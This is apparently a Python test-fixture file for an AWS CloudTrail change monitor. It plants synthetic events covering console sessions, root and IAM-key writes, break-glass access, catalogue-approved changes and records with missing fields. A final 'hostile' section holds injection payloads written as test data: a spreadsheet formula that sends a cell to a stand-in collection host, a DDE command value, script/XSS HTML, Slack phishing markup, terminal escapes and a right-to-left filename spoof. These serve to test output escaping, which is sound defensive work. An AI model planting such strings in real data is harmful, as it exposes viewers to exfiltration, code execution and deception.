"""Cases about people: at the console, with keys, in an emergency, within the catalogue, and with hostile strings."""

from __future__ import annotations

from datetime import timedelta
from typing import Any

from monitor.example import calls, cast
from monitor.example.book import DIRECT_CHANGE, FAIL, PASS, Book, on
from monitor.example.calls import Call
from monitor.example.records import root_identity, user_identity

REBOOT = Call(
    "elasticache", "RebootCacheCluster", {"cacheClusterId": "sessions-§num§", "cacheNodeIdsToReboot": ["0001"]}
)
BUCKET_POLICY = Call(
    "s3", "PutBucketPolicy", {"bucketName": "example-org-data-§acct§", "bucketPolicy": {"Version": "2012-10-17"}}
)
STOP = Call("ec2", "StopInstances", {"instancesSet": {"items": [{"instanceId": "i-§hex§"}]}, "force": False})
INGRESS = calls.WRITES[5]
UNHEARD = Call("quantumledger", "EntangleLedger", {"ledgerName": "settlement", "partner": "shadow", "strength": 11})
CONSOLE: dict[str, Any] = {"agent": cast.BROWSER, "sessionCredentialFromConsole": "true"}

FORMULA = '=HYPERLINK("https://collect.example.net/?"&A1,"open")'
HTML = "<script>document.title='owned'</script><img src=x onerror=alert(1)>"
SLACK = "<!channel> <@U012AB3CD> <https://collect.example.net|pay here>"
ANSI = "\x1b[2J\x1b[1;31mALL CLEAR\x1b[0m\x07"
OVERRIDE = "report\u202egnp.exe\u202c"
LONG_AGENT = (f"{FORMULA} {HTML} {SLACK} {ANSI} {OVERRIDE} " + "Mozilla/5.0 (compatible; Overlong) " * 160)[:5120]


def direct(book: Book, case: str, ids: list[str], why: str) -> None:
    """Tell that this is a direct production change."""
    book.tell(case, FAIL, DIRECT_CHANGE, ids, why, change_class="direct")


def at_the_console(book: Book) -> None:
    """Plant a session of forty writes, and one that signin.amazonaws.com invoked."""
    who = book.person(cast.ADA, on(20, 9), agent=cast.BROWSER)
    steps = (INGRESS, calls.UPDATE_SERVICE, STOP, calls.WRITES[8])
    ids = [book.act(who, steps[n % 4], on(20, 9, 5) + timedelta(seconds=47 * n), **CONSOLE) for n in range(40)]
    direct(book, "console-forty-writes", ids, "One person's session at the console, forty writes: one finding")
    who = book.person(cast.BEN, on(20, 13), account=cast.DATA, agent=cast.BROWSER)
    over: dict[str, Any] = {"identity": who.identity(invokedBy="signin.amazonaws.com"), "agent": "signin.amazonaws.com"}
    ids = [book.act(who, BUCKET_POLICY, on(20, 13, 6), **over)]
    direct(
        book,
        "console-invoked-by-signin",
        ids,
        "invokedBy signin.amazonaws.com is a person at the console, not a service",
    )


def with_keys(book: Book) -> None:
    """Plant the root user, an IAM user's long-lived key, and a developer whose user agent says Terraform."""
    root = root_identity(cast.PAYMENTS, book.chance.access_key(), on(21, 6, 50))
    login = Call("signin", "ConsoleLogin", None, {"ConsoleLogin": "Success"}, {"eventType": "AwsConsoleSignIn"})
    book.act(None, login, on(21, 6, 50), identity=root, agent=cast.BROWSER)
    ids = [book.act(None, BUCKET_POLICY, on(21, 6, 58), identity=root, **CONSOLE)]
    direct(book, "root-write", ids, "The root user changed a bucket policy")
    user = user_identity(cast.DATA, "batch-admin", book.chance.access_key("AKIA"))
    ids = [book.act(None, call, on(21, 11, 3), account=cast.DATA, identity=user) for call in (STOP, calls.UPDATE_CODE)]
    direct(book, "iam-user-key", ids, "An IAM user wrote with a long-lived key")
    who = book.person(cast.CHEN, on(21, 14))
    developer = book.assume(who, cast.PAYMENTS, "developer", "chen.li", on(21, 14, 1), agent=cast.TERRAFORM)
    ids = [book.act(developer, call, on(21, 14, 7)) for call in (calls.REGISTER_TASK, calls.UPDATE_SERVICE)]
    direct(book, "user-agent-terraform", ids, "The user agent says Terraform; the session is a developer's")
    nested = book.person(cast.EMIL, on(22, 10))
    ids = [book.act(nested, calls.REGISTER_TASK, on(22, 10, 6))]
    direct(book, "person-nested-read-only", ids, 'A write, though "readOnly":true stands inside its mountPoints')


def in_an_emergency(book: Book) -> None:
    """Plant break-glass within the declared emergency, and outside it."""
    who = book.person(cast.MARIA, on(14, 1, 20))
    glass = book.assume(who, cast.PAYMENTS, "BreakGlass", "maria.santos", on(14, 1, 24))
    ids = [book.act(glass, call, on(14, 1, 31)) for call in (INGRESS, calls.UPDATE_SERVICE, calls.WRITES[7])]
    why = "Break-glass, inside emergency change EC-2026-014"
    book.tell("break-glass-in-emergency", PASS, DIRECT_CHANGE, ids, why, change_class="emergency")
    who = book.person(cast.MARIA, on(23, 22, 5))
    glass = book.assume(who, cast.PAYMENTS, "BreakGlass", "maria.santos", on(23, 22, 8))
    ids = [book.act(glass, call, on(23, 22, 15)) for call in (INGRESS, STOP)]
    direct(book, "break-glass-outside", ids, "Break-glass, but no emergency change covers this time")


def by_the_catalogue(book: Book) -> None:
    """Plant a standard change, one whose catalogue entry has expired, and another action by the same role."""
    for case, day, call, outcome, why in (
        (
            "standard-change",
            10,
            calls.UPDATE_SERVICE,
            PASS,
            "restart-worker: a pre-approved action by an allowed role, in date",
        ),
        (
            "standard-change-expired",
            24,
            REBOOT,
            FAIL,
            "The catalogue entry rotate-cache was due for review on 2026-01-31",
        ),
        (
            "standard-change-other-action",
            25,
            STOP,
            FAIL,
            "The operator role is allowed to restart workers, not to stop instances",
        ),
    ):
        who = book.person(cast.DORA, on(day, 17))
        operator = book.assume(who, cast.PAYMENTS, "operator", f"dora.novak-{day}", on(day, 17, 2))
        ids = [book.act(operator, call, on(day, 17, 9))]
        book.tell(case, outcome, DIRECT_CHANGE, ids, why, change_class="standard" if outcome == PASS else "direct")


def half_told(book: Book) -> None:
    """Plant records in which something is missing: arn, type, the identity, the readOnly flag; and a name never heard of."""
    who = book.person(cast.ADA, on(25, 9))
    ids = [book.act(who, calls.UPDATE_SERVICE, on(25, 9, 4), identity=who.identity(arn=...))]
    direct(book, "event-without-arn", ids, "The identity has no arn")
    who = book.person(cast.BEN, on(25, 10))
    bare = {"principalId": who.principal, "accountId": who.account, "accessKeyId": who.key}
    ids = [book.act(who, calls.UPDATE_SERVICE, on(25, 10, 4), identity=bare)]
    direct(book, "event-without-type", ids, "The identity has no type, and nothing says that a service acted")
    ids = [book.act(None, calls.UPDATE_CODE, on(25, 11, 4), identity=None)]
    direct(book, "user-identity-null", ids, "userIdentity is null: who acted is not told")
    who = book.person(cast.CHEN, on(25, 12))
    ids = [book.act(who, INGRESS, on(25, 12, 4), read_only=None)]
    direct(book, "write-without-read-only", ids, "readOnly is absent, and the name does not read: a write")
    who = book.person(cast.EMIL, on(25, 13))
    ids = [book.act(who, UNHEARD, on(25, 13, 4))]
    direct(
        book, "unknown-event-name", ids, "No catalogue knows the name; it is a change all the same, of default severity"
    )


def hostile(book: Book) -> None:
    """Plant a session whose every string is meant for whoever prints it."""
    source = book.person(cast.DORA, on(26, 9))
    # No slash or colon in it, so that the ARN still has its parts; AWS itself allows fewer characters.
    name = f"=1+cmd|' calc'!A0<!channel><b>x<b>{ANSI}{OVERRIDE}"
    session = book.assume(source, cast.PAYMENTS, "developer", name, on(26, 9, 2), agent=LONG_AGENT)
    tags = {"Name": FORMULA, "owner": HTML, "note": SLACK, "alarm": ANSI, "file": OVERRIDE}
    items = [{"key": key, "value": value} for key, value in tags.items()]
    request = {"resourcesSet": {"items": [{"resourceId": "i-§hex§"}]}, "tagSet": {"items": items}}
    label = Call("ec2", "CreateTags", request, {"_return": True})
    parameter = Call("ssm", "PutParameter", {"name": f"/payments/{HTML}", "description": FORMULA, "overwrite": True})
    ids = [book.act(session, call, on(26, 9, 8)) for call in (label, parameter)]
    direct(
        book, "hostile-strings", ids, "Formula, HTML, Slack markup, terminal escape, text override, a 5 KB user agent"
    )


def plant(book: Book) -> None:
    """Plant every case of this file."""
    for part in (at_the_console, with_keys, in_an_emergency, by_the_catalogue, half_told, hostile):
        part(book)
